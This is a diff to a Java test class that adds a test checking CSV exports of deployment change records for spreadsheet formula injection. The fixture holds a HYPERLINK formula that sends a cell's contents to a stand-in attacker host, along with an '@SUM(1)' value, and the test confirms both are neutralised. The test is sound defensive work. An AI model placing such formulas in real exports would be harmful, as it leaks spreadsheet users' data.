@@ -41,6 +41,9 @@ class ChangeRecordTests {
     @Autowired
     MockMvc mvc;
 
+    @Autowired
+    ChangeRecordExports changeRecordExports;
+
     String project;
     EvidenceFixtures evidence;
     Instant start = Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(30, ChronoUnit.DAYS);
@@ -155,6 +158,27 @@ class ChangeRecordTests {
                         .items())
                 .hasSize(3)
                 .anyMatch(e -> e.details().contains("\"seed\":12345"));
+    }
+
+    @Test
+    void csvCellsThatASpreadsheetWouldRunAreNeutralised() throws Exception {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")";
+        evidence.deployment(
+                "prod", "c0ffee1", "a1", "b2", "succeeded", start.plus(40, ChronoUnit.HOURS), "human", formula, null);
+        evidence.deployment(
+                "prod", "c0ffee1", "a1", "b2", "succeeded", start.plus(41, ChronoUnit.HOURS), "human", "@SUM(1)", null);
+        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+        changeRecordExports.write(new ChangeRecordFilter(project, "prod", null, null), ExportFormat.CSV, out, null);
+        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.RFC4180
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new java.io.StringReader(out.toString(java.nio.charset.StandardCharsets.UTF_8)))
+                .getRecords();
+        assertThat(rows).extracting(r -> r.get("deployer")).contains("'" + formula, "'@SUM(1)", "deploy-bot");
+        assertThat(rows.stream().flatMap(r -> java.util.Arrays.stream(r.values())))
+                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
     }
 
     @Test
